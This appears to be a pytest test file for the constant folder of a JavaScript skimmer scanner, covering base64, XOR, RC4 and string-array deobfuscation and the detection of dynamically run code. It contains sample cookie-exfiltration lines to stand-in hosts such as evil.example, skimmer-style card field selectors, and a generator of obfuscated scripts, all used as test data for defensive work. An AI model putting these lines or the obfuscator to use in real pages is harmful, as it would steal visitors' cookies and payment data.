"""Tests for skimscan.analyze.fold: the bounded, pure constant folder (STAGE 3)."""

from __future__ import annotations

import base64
import random
import sys
import time
from typing import Any

import esprima
import pytest

from skimscan.analyze import estree
from skimscan.analyze.fold import (
    UNDEFINED,
    UNKNOWN,
    DynamicCode,
    Folder,
    Recovered,
)
from skimscan.analyze.parse import parse, run_deep

# ----------------------------------------------------------------------------- helpers


def tree(code: str) -> Any:
    """esprima's tree, in the classes every tree skimscan analyses is made of."""
    return estree.from_esprima(
        esprima.parseScript(code, {"loc": True, "range": True, "tolerant": True}))


def fold_last(code: str, **kw: Any) -> tuple[object, Folder]:
    """Value of the expression in the last statement of `code`."""
    program = tree(code)
    folder = Folder(program, **kw)
    return folder.value(program.body[-1].expression), folder


def val(code: str, **kw: Any) -> object:
    return fold_last(code, **kw)[0]


def calls(program: Any) -> list[Any]:
    """Every CallExpression node, in source order."""
    out: list[Any] = []
    stack = [program]
    while stack:
        n = stack.pop()
        if isinstance(n, list):
            stack.extend(reversed(n))
            continue
        if not isinstance(n, estree.Node):
            continue
        if n.type == "CallExpression":
            out.append(n)
        stack.extend(getattr(n, k) for k in n.CHILDREN)
    out.sort(key=lambda c: c.range[0])
    return out


def args_of(program: Any, name: str) -> list[Any]:
    """First arguments of the calls to the global function `name`, in source order."""
    return [
        c.arguments[0]
        for c in calls(program)
        if c.callee.type == "Identifier" and c.callee.name == name and c.arguments
    ]


# ----------------------------------------------------------------------------- obfuscator


_CUSTOM_B64 = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/"
_STD_B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def _custom_b64(s: str) -> str:
    """UTF-8, base64 without padding, in the lowercase-first alphabet."""
    std = base64.b64encode(s.encode("utf-8")).decode("ascii").rstrip("=")
    return std.translate(str.maketrans(_STD_B64, _CUSTOM_B64))


def _std_b64(s: str) -> str:
    return base64.b64encode(s.encode("utf-8")).decode("ascii").rstrip("=")


def _js_str(s: str) -> str:
    return (
        "'" + "".join(c if c.isalnum() or c in " ./:-_%+=" else f"\\u{ord(c):04x}" for c in s) + "'"
    )


_PLAIN_DECODER = """
function {dec}({p1}, {p2}) {{
  var {arr} = {tab}();
  {dec} = function ({q1}, {q2}) {{
    {q1} = {q1} - {off};
    var {s} = {arr}[{q1}];
    return {s};
  }};
  return {dec}({p1}, {p2});
}}
"""

# The base64 step is written the way such decoders usually are: a charAt loop that
# accumulates 6-bit groups, then a %XX pass through decodeURIComponent, with a cache object
# hung on the function and an `init` flag.
_B64_DECODER = """
function {dec}({p1}, {p2}) {{
  var {arr} = {tab}();
  return {dec} = function ({q1}, {q2}) {{
    {q1} = {q1} - {off};
    var {s} = {arr}[{q1}];
    if ({dec}['initFlag'] === undefined) {{
      var {b64} = function ({inp}) {{
        var {abc} = '{alphabet}';
        var {out} = '', {tmp} = '';
        for (var {q} = 0x0, {bc}, {ch}, {j} = 0x0; {ch} = {inp}['charAt']({j}++);
             ~{ch} && ({bc} = {q} % 0x4 ? {bc} * 0x40 + {ch} : {ch}, {q}++ % 0x4)
               ? {out} += String['fromCharCode'](0xff & {bc} >> (-0x2 * {q} & 0x6)) : 0x0) {{
          {ch} = {abc}['indexOf']({ch});
        }}
        for (var {m} = 0x0, {n} = {out}['length']; {m} < {n}; {m}++) {{
          {tmp} += '%' + ('00' + {out}['charCodeAt']({m})['toString'](0x10))['slice'](-0x2);
        }}
        return decodeURIComponent({tmp});
      }};
      {dec}['decodeFn'] = {b64};
      {dec}['cacheObj'] = {{}};
      {dec}['initFlag'] = !![];
    }}
    var {salt} = {arr}[0x0], {key} = {q1} + {salt}, {hit} = {dec}['cacheObj'][{key}];
    if (!{hit}) {{
      {s} = {dec}['decodeFn']({s});
      {dec}['cacheObj'][{key}] = {s};
    }} else {{
      {s} = {hit};
    }}
    return {s};
  }}, {dec}({p1}, {p2});
}}
"""


def obfuscate(
    strings: list[str], rotation: int, *, encoding: str = "plain", seed: int = 7
) -> tuple[str, list[tuple[int, str]]]:
    """Build an obfuscator.io-style script: string table function, rotation IIFE, decoder.

    Returns the script and the (index, expected string) pairs of the decoder calls it makes at
    the end (through an alias), in order.
    """
    rng = random.Random(seed)
    names = iter(rng.sample([f"_0x{rng.randrange(0x1000, 0xFFFFFF):x}" for _ in range(200)], 60))

    def nm() -> str:
        return next(names)

    off = rng.randrange(0x100, 0x300)
    divisors = [1, 2, 3, 4, 5, 6]
    junk = []
    for d in divisors:
        value = rng.randrange(1000, 900000) // d * d
        suffix = "".join(
            rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(5)
        )
        junk.append((value, f"{value}{suffix}"))
    canonical = [s for _v, s in junk] + list(strings)
    rng.shuffle(canonical)
    pos = {s: i for i, s in enumerate(canonical)}
    k = len(canonical)
    rotation %= k
    stored = canonical[k - rotation :] + canonical[: k - rotation] if rotation else canonical[:]
    alphabet = _STD_B64 if encoding == "base64-std" else _CUSTOM_B64
    encode = {"base64": _custom_b64, "base64-std": _std_b64}.get(encoding, str)

    tab, dec, alias = nm(), nm(), nm()
    vals = [v for v, _s in junk]
    idx = [off + pos[s] for _v, s in junk]
    # -a/1 + b/2*(-c/3) + d/4 + -e/5*(f/6): integers, so the target is exact.
    target = (
        -vals[0] // 1
        + (vals[1] // 2) * (-vals[2] // 3)
        + vals[3] // 4
        + (-vals[4] // 5) * (vals[5] // 6)
    )
    loc = nm()
    expr = (
        f"-parseInt({loc}({hex(idx[0])}))/0x1+parseInt({loc}({hex(idx[1])}))/0x2*"
        f"(-parseInt({loc}({hex(idx[2])}))/0x3)+parseInt({loc}({hex(idx[3])}))/0x4+"
        f"-parseInt({loc}({hex(idx[4])}))/0x5*(parseInt({loc}({hex(idx[5])}))/0x6)"
    )
    elems = ",".join(_js_str(encode(s)) for s in stored)
    a, f, t, arr2, v, e = nm(), nm(), nm(), nm(), nm(), nm()
    table = f"function {tab}(){{var {a}=[{elems}];{tab}=function(){{return {a};}};return {tab}();}}"
    fields = {
        "dec": dec, "tab": tab, "off": hex(off), "arr": nm(), "s": nm(), "p1": nm(),
        "p2": nm(), "q1": nm(), "q2": nm(), "b64": nm(), "inp": nm(), "abc": nm(),
        "out": nm(), "tmp": nm(), "q": nm(), "bc": nm(), "ch": nm(), "j": nm(), "m": nm(),
        "n": nm(), "salt": nm(), "key": nm(), "hit": nm(), "alphabet": alphabet,
    }  # fmt: skip
    decoder = (_B64_DECODER if encoding != "plain" else _PLAIN_DECODER).format(**fields)
    rotate = (
        f"(function({f},{t}){{var {loc}={dec},{arr2}={f}();while(!![]){{try{{var {v}={expr};"
        f"if({v}==={t})break;else {arr2}['push']({arr2}['shift']());}}catch({e}){{"
        f"{arr2}['push']({arr2}['shift']());}}}}}}({tab},{target}));"
    )
    uses = [(off + pos[s], s) for s in strings]
    body = ";".join(f"sink({alias}({hex(i)}))" for i, _s in uses)
    script = f"{table}\n{decoder}\n{rotate}\nvar {alias}={dec};\n{body};"
    return script, uses


# ----------------------------------------------------------------------------- techniques


def test_concat_and_concat_method() -> None:
    assert val("'ht' + 'tp' + 's://' + 'evil' + '.com'") == "https://evil.com"
    assert val("'a'.concat('b', 1, true)") == "ab1true"
    assert val("var h = 'ev', t = 'il'; h + t + '.' + ['c', 'o', 'm'].join('')") == "evil.com"
    program = tree("send('https://' + 'ev' + 'il.com/g')")
    folder = Folder(program)
    (rec,) = folder.recovered()
    assert rec == Recovered("https://evil.com/g", 1, 5, "concat")


def test_template_literals() -> None:
    assert val("var d = 'evil'; `https://${d}.${'co' + 'm'}/x?n=${1 + 1}`") == (
        "https://evil.com/x?n=2"
    )
    assert val("`a${document.title}b`") is UNKNOWN
    assert val("String.raw`a\\x41${'b'}`") == "a\\x41b"


def test_escapes_are_decoded_and_reported() -> None:
    program = tree("var u = '\\x68\\x74\\x74\\x70\\x73\\u003a//e.com'; var p = 'plain';")
    folder = Folder(program)
    assert folder.value(program.body[0].declarations[0].init) == "https://e.com"
    recs = folder.recovered()
    assert [(r.value, r.via) for r in recs] == [("https://e.com", "escape")]
    # a template literal written with escapes is noticed too
    assert val("`\\u0061${'b'}`") == "ab"


def test_from_char_code_forms() -> None:
    assert val("String.fromCharCode(104, 116, 116, 112)") == "http"
    assert val("String['fromCharCode'](0x68, 0x69)") == "hi"
    assert val("String['from' + 'CharCode'](104, 105)") == "hi"
    assert val("var c = [104, 105]; String.fromCharCode.apply(null, c)") == "hi"
    assert val("String.fromCharCode.apply(String, [104, 105])") == "hi"
    assert val("String.fromCharCode(...[104, 105])") == "hi"
    assert val("String.fromCharCode.call(null, 104, 105)") == "hi"
    assert val("[104, 105].map(function (c) { return String.fromCharCode(c); }).join('')") == "hi"
    program = tree("x(String.fromCharCode(101, 118, 105, 108))")
    assert Folder(program).recovered()[0].via == "fromCharCode"


def test_atob_btoa() -> None:
    assert val("atob('aHR0cHM6Ly9ldmlsLmNvbS9j')") == "https://evil.com/c"
    assert val("window.atob('ZXZpbA==')") == "evil"
    assert val("self['atob']('ZXZpbA')") == "evil"  # padding is optional
    assert val("btoa('evil')") == "ZXZpbA=="
    assert val("atob(btoa('round trip'))") == "round trip"
    assert val("atob('not base64!')") is UNKNOWN  # InvalidCharacterError
    assert val("btoa('\\u20ac')") is UNKNOWN  # not Latin-1
    assert val("try { atob('@@') } catch (e) { 'caught' }") is UNKNOWN  # not an expression
    assert val("(function(){ try { return atob('@@'); } catch (e) { return 'caught'; } })()") == (
        "caught"
    )
    program = tree("f(atob('ZXZpbC5jb20='))")
    assert Folder(program).recovered()[0] == Recovered("evil.com", 1, 2, "atob")


def test_reverse() -> None:
    assert val("'moc.live//:sptth'.split('').reverse().join('')") == "https://evil.com"
    assert val("['c', 'b', 'a'].reverse().join('')") == "abc"
    program = tree("go('moc.live'.split('').reverse().join(''))")
    assert Folder(program).recovered()[0].via == "reverse"


def test_uri_coding() -> None:
    assert val("decodeURIComponent('%68%74%74%70%73%3A%2F%2F%65%2E%63%6F')") == "https://e.co"
    assert val("decodeURIComponent('%E2%82%AC')") == "\u20ac"
    assert val("decodeURIComponent('%E2%82')") is UNKNOWN  # URIError
    assert val("decodeURI('%2F%41')") == "%2FA"
    assert val("unescape('%68%u0069')") == "hi"
    assert val("encodeURIComponent('a b/\\u20ac')") == "a%20b%2F%E2%82%AC"
    assert val("encodeURI('a b/?')") == "a%20b/?"
    assert val("escape('a b\\u20ac')") == "a%20b%u20AC"
    program = tree("f(unescape('%65%76%69%6c'), decodeURIComponent('%65%76%69%6c'))")
    assert [r.via for r in Folder(program).recovered()] == ["unescape", "decodeURIComponent"]


def test_replace() -> None:
    assert val("'hxtxtxp'.replace(/x/g, '')") == "http"
    assert val("'a-b-c'.replace('-', '')") == "ab-c"
    assert val("'a-b-c'.replaceAll('-', '')") == "abc"
    assert val("'a-b-c'.split('-').join('')") == "abc"
    assert val("'2024-01'.replace(/(\\d+)-(\\d+)/, '$2/$1 $& $$')") == "01/2024 2024-01 $"
    assert val("'abc'.replace(/[ac]/g, function (m) { return m.toUpperCase(); })") == "AbC"
    assert val("'e$v$i$l'.replace(new RegExp('\\\\$', 'g'), '')") == "evil"
    assert val("'aXbXc'.replace(/x/gi, '.')") == "a.b.c"
    assert val("'aa'.replace(/(a)\\1/, 'b')") is UNKNOWN  # back-references: not RE2
    assert val("'ab'.replace(/a(?=b)/, 'x')") is UNKNOWN  # look-ahead: not RE2
    assert val("'a1b2'.split(/\\d/)") == ["a", "b", ""]
    program = tree("x('h_t_t_p'.replace(/_/g, ''))")
    assert Folder(program).recovered()[0].via == "replace"


def test_string_methods() -> None:
    assert val("'abcdef'.slice(1, -1)") == "bcde"
    assert val("'abcdef'.slice(-2)") == "ef"
    assert val("'abcdef'.substring(4, 1)") == "bcd"
    assert val("'abcdef'.substr(-3, 2)") == "de"
    assert val("'abc'.charAt(1) + 'abc'.charAt(9)") == "b"
    assert val("'abc'.charCodeAt(1)") == 98
    assert val("'AbC'.toLowerCase() + 'x'.toUpperCase()") == "abcX"
    assert val("'  x \\n'.trim()") == "x"
    assert val("'ab'.repeat(3)") == "ababab"
    assert val("'abcabc'.indexOf('c') + 'abcabc'.indexOf('c', 3) + 'abc'.indexOf('z')") == 6
    assert val("'a,b'.split(',').length") == 2
    assert val("'abc'.split('').map(c => c + c).join('')") == "aabbcc"
    assert val("'5'.padStart(3, '0')") == "005"
    assert val("'abc'.length") == 3
    assert val("'abc'[1]") == "b"


def test_repeat_is_bounded() -> None:
    start = time.perf_counter()
    assert val("'x'.repeat(1e9)") is UNKNOWN
    assert val("'x'.repeat(100)", max_string=50) is UNKNOWN
    assert val("'x'.repeat(-1)") is UNKNOWN  # RangeError
    assert time.perf_counter() - start < 1.0


def test_number_conversions() -> None:
    assert val("parseInt('0x1f')") == 31
    assert val("parseInt('1234abc')") == 1234
    assert val("parseInt('z', 36) + parseInt('  -12px')") == 23
    assert val("parseInt('abc')") != val("parseInt('abc')")  # NaN
    assert val("parseFloat('3.5e1x')") == 35
    assert val("Number('0b101') + Number('') + Number(' 7 ')") == 12
    assert val("String(1e21) + String(0.000001) + String(1e-7) + String(-0)") == (
        "1e+210.0000011e-70"
    )
    assert val("(255).toString(16) + (255).toString(2)") == "ff11111111"
    assert val("(1.005).toFixed(2) + ' ' + (2.5).toFixed(0)") == "1.00 3"
    program = tree("x(12 + 0.5)")
    folder = Folder(program)
    assert folder.string(program.body[0].expression.arguments[0]) == "12.5"


def test_arithmetic_bitwise_comparisons() -> None:
    assert val("7 % -3 + 2 ** 10 - 10 / 4 * 2") == 1020
    assert val("(0x5a ^ 0x42) + (1 << 31) + (-16 >> 2) + (-1 >>> 28) + ~5") == (
        0x18 + -2147483648 - 4 + 15 - 6
    )
    assert val("(1 < 2) + (2 <= 2) + ('b' > 'a') + ('10' < '9') + (10 < '9')") == 4
    assert val("null == undefined && 1 == '1' && 0 !== -0 === false && NaN !== NaN") is True
    assert val("1 / 0") == float("inf")
    assert val("true ? 'yes' : 'no'") == "yes"
    assert val("0 || '' || 'last'") == "last"
    assert val("null ?? 'dflt'") == "dflt"
    assert val("typeof atob + typeof 1 + typeof {} + typeof undefined") == (
        "functionnumberobjectundefined"
    )
    assert val("[] + {}") == "[object Object]"
    assert val("!![] + [+[]] + [1, [2, 3]]") == "true01,2,3"


def test_arrays_and_objects() -> None:
    assert val("['a', 'b', 'c'][2] + [1, 2, 3].length") == "c3"
    assert val("var a = [1]; a.push(2, 3); a.unshift(0); a.shift(); a.pop(); a") == [1, 2]
    assert val("var o = {a: {b: 'deep'}, 'c-d': 1, [1 + 1]: 'two'}; o.a.b + o['c-d'] + o[2]") == (
        "deep1two"
    )
    assert val("var cfg = {url: atob('ZXZpbA=='), el: document.body}; cfg.url") == "evil"
    assert val("({a: 1}).b") is UNDEFINED
    assert val("[1, 2, 3].indexOf(2) + [1, 2].concat([3], 4).join('')") == "11234"
    assert val("var a = [3, 1, 2]; a.sort(); a.join('')") == "123"
    assert val("[[1], [2]].map(function (x) { return x[0] * 2; })") == [2, 4]
    assert val("Object.keys({x: 1, y: 2}).join()") == "x,y"
    assert val('JSON.parse(\'{"u":"https://e.com"}\').u') == "https://e.com"
    assert val("JSON.stringify({a: [1, 'x', null], b: true})") == '{"a":[1,"x",null],"b":true}'


def test_scope_is_respected() -> None:
    code = """
    function first() { var e = 'https://one.example/'; return e; }
    function second() { var e = 'https://two.example/'; return e + 'x'; }
    var e = 'global';
    first() + '|' + second() + '|' + e
    """
    assert val(code) == "https://one.example/|https://two.example/x|global"
    program = tree("function a(){ var n = 'A'; use(n); } function b(){ var n = 'B'; use(n); }")
    folder = Folder(program)
    args = [c.arguments[0] for c in calls(program)]
    assert [folder.value(x) for x in args] == ["A", "B"]
    # block scopes: the inner `let` shadows only inside its block
    assert val("let s = 'out'; { let s = 'in'; } s") == "out"


def test_reassigned_bindings_are_unknown() -> None:
    program = tree(
        "var u = 'https://a.example'; function later() { u = 'https://b.example'; } send(u);"
    )
    folder = Folder(program)
    assert folder.value(args_of(program, "send")[-1]) is UNKNOWN
    # assigned once (outside its declaration): that value
    program = tree("var u; function init() { u = 'x' + 'y'; } send(u);")
    assert Folder(program).value(args_of(program, "send")[-1]) == "xy"
    # a local array mutated later is not folded from its initializer
    program = tree("function f(){ var p = ['a']; p.push('b'); send(p.join('')); }")
    assert Folder(program).value(args_of(program, "send")[-1]) is UNKNOWN


def test_iife_parameters() -> None:
    program = tree(
        "(function (w, d, host) { w.fetch(host + '/c', {body: d.cookie}); })"
        "(window, document, 'https://' + 'evil.com');"
    )
    folder = Folder(program)
    fetch = next(c for c in calls(program) if c.callee.type == "MemberExpression")
    assert folder.value(fetch.arguments[0]) == "https://evil.com/c"
    assert folder.value(fetch.arguments[1]) == {"body": UNKNOWN}


def test_interpreted_statements() -> None:
    code = """
    function f(n) {
      var out = [], i = 0;
      for (;;) { i++; if (i > 10) break; if (i % 2) continue; out.push(i); }
      while (n > 0) { n -= 3; }
      do { n++; } while (n < 2);
      for (var x of ['p', 'q']) out.push(x);
      for (var k in {a: 1, b: 2}) out.push(k);
      switch (n) { case 1: out.push('one'); case 2: out.push('two'); break;
        default: out.push('d'); }
      outer: for (var a = 0; a < 3; a++) { for (var b = 0; b < 3; b++) { if (b == 1) continue outer;
        if (a == 2) break outer; out.push('' + a + b); } }
      try { throw 'boom'; } catch (e) { out.push(e); } finally { out.push('fin'); }
      try { null.x; } catch (err) { out.push(err.name); }
      let t = n > 1 ? 'big' : 'small';
      return out.join(',') + ';' + t;
    }
    f(7)
    """
    assert val(code) == "2,4,6,8,10,p,q,a,b,two,00,10,boom,fin,TypeError;big"


def test_recursion_is_bounded() -> None:
    assert val("function f(n) { return n ? f(n - 1) + 'a' : ''; } f(10)") == "a" * 10
    start = time.perf_counter()
    assert val("function f(n) { return f(n + 1); } f(0)") is UNKNOWN
    assert time.perf_counter() - start < 2.0


def test_unknown_control_flow_gives_up() -> None:
    assert val("function f(){ if (document.x) return 'a'; return 'b'; } f()") is UNKNOWN
    # an unknown value that does not decide anything is fine
    assert val("function g(){ var t = Math.random(); return 'ok'; } g()") == "ok"
    # functions that name the DOM or other unmodelled globals are not interpreted at all
    assert val("function h(){ var t = document.title; return 'ok'; } h()") is UNKNOWN


# ----------------------------------------------------------------------------- string arrays


@pytest.mark.parametrize("encoding", ["plain", "base64", "base64-std"])
@pytest.mark.parametrize("rotation", [0, 1, 5, 13])
def test_string_array_round_trip(encoding: str, rotation: int) -> None:
    strings = [
        "https://evil-cdn.example/gate.php",
        "cc_number",
        "querySelector",
        'input[name="payment[cc_cvv]"]',
        "caf\u00e9 \u20ac",
        "sendBeacon",
        "checkout",
    ]
    script, uses = obfuscate(strings, rotation, encoding=encoding, seed=rotation + 11)
    program = tree(script)
    folder = Folder(program)
    sinks = [c for c in calls(program) if c.callee.type == "Identifier" and c.callee.name == "sink"]
    assert len(sinks) == len(uses)
    got = [folder.value(s.arguments[0]) for s in sinks]
    assert got == [s for _i, s in uses]
    via = {r.value: r.via for r in folder.recovered()}
    assert via["cc_number"] == "string-array"


def test_string_array_base64_interpreted_without_fast_path(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The native base64 stand-in is an optimisation: the interpreter alone gets the same result.
    monkeypatch.setattr(Folder, "_accelerated", lambda self, fn: None)
    script, uses = obfuscate(["https://e.example/x", "caf\u00e9", "cvv"], 3, encoding="base64")
    program = tree(script)
    folder = Folder(program)
    assert [folder.value(x) for x in args_of(program, "sink")] == [s for _i, s in uses]


def test_string_array_without_budget_is_unknown_not_wrong() -> None:
    strings = [f"s{i}_{'x' * (i % 7)}" for i in range(40)]
    script, _uses = obfuscate(strings, 30)
    program = tree(script)
    folder = Folder(program, max_steps=4_000)  # too small to finish the rotation
    assert {folder.value(x) for x in args_of(program, "sink")} == {UNKNOWN}
    folder = Folder(program)
    assert [folder.value(x) for x in args_of(program, "sink")] == strings


def test_string_array_setup_is_rotated_once() -> None:
    script, uses = obfuscate(["alpha", "beta", "gamma"], 4)
    program = tree(script)
    folder = Folder(program)
    sinks = [c for c in calls(program) if c.callee.type == "Identifier" and c.callee.name == "sink"]
    # asking twice (and in reverse order) gives the same answers: folds never leak state
    for _ in range(2):
        assert [folder.value(s.arguments[0]) for s in reversed(sinks)] == [
            s for _i, s in reversed(uses)
        ]


def test_old_style_array_rotation() -> None:
    code = """
    var _0x1a = ['c29tZQ==', 'ZXZpbA==', 'aHR0cHM6Ly8='];
    (function (arr, n) {
      var spin = function (c) { while (--c) { arr['push'](arr['shift']()); } };
      spin(++n);
    }(_0x1a, 0x1));
    var _0x2b = function (i, k) { i = i - 0x0; var v = _0x1a[i]; return atob(v); };
    send(_0x2b('0x0') + _0x2b('0x2') + '.com');
    """
    # spin(2) rotates left once: [ZXZpbA==, aHR0cHM6Ly8=, c29tZQ==]
    program = tree(code)
    folder = Folder(program)
    assert folder.value(args_of(program, "send")[-1]) == "evilsome.com"


# ----------------------------------------------------------------------------- xor / shifts


def test_xor_numeric_key() -> None:
    plain = "https://evil.example/c.js"
    enc = "".join(f"\\x{ord(c) ^ 42:02x}" for c in plain)
    code = (
        "function d(s,k){var o='';for(var i=0;i<s.length;i++)"
        "o+=String.fromCharCode(s.charCodeAt(i)^k);return o}"
        f"load(d('{enc}', 42));"
    )
    program = tree(code)
    folder = Folder(program)
    assert folder.value(args_of(program, "load")[-1]) == plain
    assert [r.via for r in folder.recovered()] == ["xor"]


def test_xor_string_key_cycles() -> None:
    plain = "document.forms[0].cc"
    key = "k3y"
    data = [ord(c) ^ ord(key[i % len(key)]) for i, c in enumerate(plain)]
    code = (
        "function x(a, k) { var r = []; for (var i = 0; i < a.length; i++) {"
        " r.push(String.fromCharCode(a[i] ^ k.charCodeAt(i % k.length))); } return r.join(''); }"
        f"grab(x([{','.join(map(str, data))}], '{key}'));"
    )
    program = tree(code)
    assert Folder(program).value(args_of(program, "grab")[-1]) == plain


def test_caesar_shift_and_number_arrays() -> None:
    plain = "evil.example"
    shifted = "".join(chr(ord(c) + 3) for c in plain)
    code = (
        "var dec = (s, n) => s.split('')"
        ".map(c => String.fromCharCode(c.charCodeAt(0) - n)).join('');"
        f"use(dec('{shifted}', 3));"
        f"use(String.fromCharCode.apply(null, [{','.join(str(ord(c) + 1) for c in plain)}]"
        ".map(function (v) { return v - 1; })));"
    )
    program = tree(code)
    folder = Folder(program)
    got = [folder.value(c.arguments[0]) for c in calls(program) if c.callee.name == "use"]
    assert got == [plain, plain]


def _rc4(data: bytes, key: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    i = j = 0
    out = bytearray()
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def test_rc4_over_base64() -> None:
    plain = "https://rc4.example/g"
    payload = base64.b64encode(_rc4(plain.encode(), b"k3y")).decode()
    code = (
        "function rc4(str, key) { var s = [], j = 0, x, res = '';"
        " for (var i = 0; i < 256; i++) s[i] = i;"
        " for (i = 0; i < 256; i++) { j = (j + s[i] + key.charCodeAt(i % key.length)) % 256;"
        " x = s[i]; s[i] = s[j]; s[j] = x; }"
        " i = 0; j = 0;"
        " for (var y = 0; y < str.length; y++) { i = (i + 1) % 256; j = (j + s[i]) % 256;"
        " x = s[i]; s[i] = s[j]; s[j] = x;"
        " res += String.fromCharCode(str.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]); }"
        " return res; }"
        f"use(rc4(atob('{payload}'), 'k3y'));"
    )
    program = tree(code)
    assert Folder(program).value(args_of(program, "use")[0]) == plain


# ----------------------------------------------------------------------------- budgets, safety


def test_infinite_loop_is_unknown_quickly() -> None:
    start = time.perf_counter()
    value, folder = fold_last("function spin() { while (true) {} return 'x'; } spin()")
    assert value is UNKNOWN
    assert time.perf_counter() - start < 3.0
    assert folder._steps <= 200_000


def test_infinite_loop_in_setup_is_skipped() -> None:
    start = time.perf_counter()
    program = tree("var a = 'ok'; (function () { for (;;) {} })(); send(a + '!');")
    folder = Folder(program, max_steps=50_000)
    assert folder.value(args_of(program, "send")[-1]) == "ok!"
    assert time.perf_counter() - start < 3.0


def test_exponential_doubling_is_unknown_quickly() -> None:
    start = time.perf_counter()
    code = "function big() { var s = 'ab'; for (var i = 0; i < 64; i++) s += s; return s; } big()"
    assert val(code) is UNKNOWN
    code = "function big2() { var s = 'ab'; while (s.length < 1e12) s = s + s; return s; } big2()"
    assert val(code) is UNKNOWN
    assert time.perf_counter() - start < 3.0


def test_total_budget_is_shared() -> None:
    program = tree("function spin() { for (;;) {} } a(spin()); b(spin()); c('x' + 'y');")
    folder = Folder(program, max_steps=10_000)
    args = [args_of(program, name)[0] for name in "abc"]
    results = [folder.value(x) for x in args]
    assert results[:2] == [UNKNOWN, UNKNOWN]
    assert folder._steps <= 10_000
    # four spins at a quarter of the budget each: all gone, even for trivial folds
    more = tree("function spin() { for (;;) {} } a(spin()); b(spin()); c(spin()); d(spin());")
    folder = Folder(more, max_steps=10_000)
    for name in "abcd":
        assert folder.value(args_of(more, name)[0]) is UNKNOWN
    last = tree("'x' + 'y'").body[0].expression
    assert folder.value(last) is UNKNOWN


def test_dom_and_network_are_never_evaluated() -> None:
    assert val("fetch('x')") is UNKNOWN
    assert val("document.cookie") is UNKNOWN
    assert val("navigator.sendBeacon('https://e.com', 'x')") is UNKNOWN
    assert val("new XMLHttpRequest()") is UNKNOWN
    assert val("window.location.href") is UNKNOWN
    assert val("eval('1 + 1')") is UNKNOWN
    assert val("Function('return 1')()") is UNKNOWN
    assert val("Math.random()") is UNKNOWN
    # A setup statement that touches the DOM is skipped entirely, not partially applied; what
    # it would have changed is then UNKNOWN (neither 'ab' nor 'abc'), the rest still folds.
    code = """
    var parts = ['a'], other = ['x'];
    (function () { parts.push('b'); document.title = 'x'; parts.push('c'); })();
    (function () { other.push('y'); })();
    send(parts.join('')); send(other.join(''));
    """
    program = tree(code)
    folder = Folder(program)
    assert [folder.value(x) for x in args_of(program, "send")] == [UNKNOWN, "xy"]
    program = tree("var q = ['a']; window.x = q.push('z'); send(q.join(''));")
    assert Folder(program).value(args_of(program, "send")[-1]) is UNKNOWN


def test_never_raises() -> None:
    assert Folder(None).value(None) is UNKNOWN
    folder = Folder(tree("1"))
    assert folder.value(object()) is UNKNOWN
    assert folder.string(None) is None
    assert folder.recovered() == []
    assert folder.dynamic_code() == []
    weird = tree("class A { m() { return 1 } } async function f() {} function* g() {}; f(); g();")
    folder = Folder(weird)
    for c in calls(weird):
        assert folder.value(c) is UNKNOWN


def test_deep_nesting_inside_run_deep() -> None:
    code = "x(" + "+".join(["'a'"] * 3000) + ")"
    result = run_deep(lambda: parse(code))
    assert result.tree is not None
    arg = result.tree.body[0].expression.arguments[0]

    def go() -> object:
        return Folder(result.tree).value(arg)

    assert run_deep(go) == "a" * 3000
    # with a small recursion limit the same fold is UNKNOWN, not a crash
    old = sys.getrecursionlimit()
    sys.setrecursionlimit(1500)
    try:
        shallow = Folder(result.tree).value(arg)
    finally:
        sys.setrecursionlimit(old)
    assert shallow is UNKNOWN


# ----------------------------------------------------------------------------- dynamic code


def test_dynamic_code() -> None:
    payload = "fetch('https://evil.example/?c='+document.cookie)"
    b64 = base64.b64encode(payload.encode()).decode()
    code = f"""
    eval(atob('{b64}'));
    var body = 'return a' + ' + b';
    var f = new Function('a', 'b', body);
    Function('alert(1)')();
    setTimeout("steal" + "()", 100);
    window.setInterval('tick()', 5);
    setTimeout(function () {{}}, 10);
    document.write('<p>x</p><scr' + 'ipt>var k = 1;</script>');
    var s = document.createElement('script');
    s.text = 'load' + '()';
    document.createElement('div').textContent = 'not code';
    (0, eval)('indirect()');
    [].constructor.constructor('via' + 'Ctor()')();
    """
    program = tree(code)
    got = [(d.code, d.via) for d in Folder(program).dynamic_code()]
    assert got == [
        (payload, "eval"),
        ("return a + b", "Function"),
        ("alert(1)", "Function"),
        ("steal()", "setTimeout"),
        ("tick()", "setInterval"),
        ("var k = 1;", "document.write"),
        ("load()", "script.text"),
        ("indirect()", "eval"),
        ("viaCtor()", "Function"),
    ]
    first = Folder(program).dynamic_code()[0]
    assert isinstance(first, DynamicCode)
    assert (first.line, first.column) == (2, 4)


def test_dynamic_code_script_elements() -> None:
    code = """
    var el = document.createElement('scr' + 'ipt');
    el.textContent = atob('c3RlYWwoKQ==');
    var other = document.createElement('script');
    other.innerHTML = 'run()';
    document.writeln('<SCRIPT type="text/javascript">w()</SCRIPT>');
    var div = document.createElement('div');
    div.innerHTML = '<b>not code</b>';
    """
    got = [(d.code, d.via) for d in Folder(tree(code)).dynamic_code()]
    assert got == [
        ("steal()", "script.textContent"),
        ("run()", "script.innerHTML"),
        ("w()", "document.write"),
    ]


def test_dynamic_code_through_string_array() -> None:
    script, uses = obfuscate(["console.log('second stage')", "x"], 3)
    script = script.replace("sink(", "eval(", 1)
    program = tree(script)
    codes = [d.code for d in Folder(program).dynamic_code()]
    assert codes == ["console.log('second stage')"]
    assert uses[0][1] == codes[0]


# ----------------------------------------------------------------------------- reporting


def test_recovered_lists_maximal_expressions_in_order() -> None:
    code = "a('ht' + 'tp');\nb(String.fromCharCode(120), 'plain');\nc(x + 'y');"
    recs = Folder(tree(code)).recovered()
    assert [(r.value, r.line, r.via) for r in recs] == [
        ("http", 1, "concat"),
        ("x", 2, "fromCharCode"),
    ]
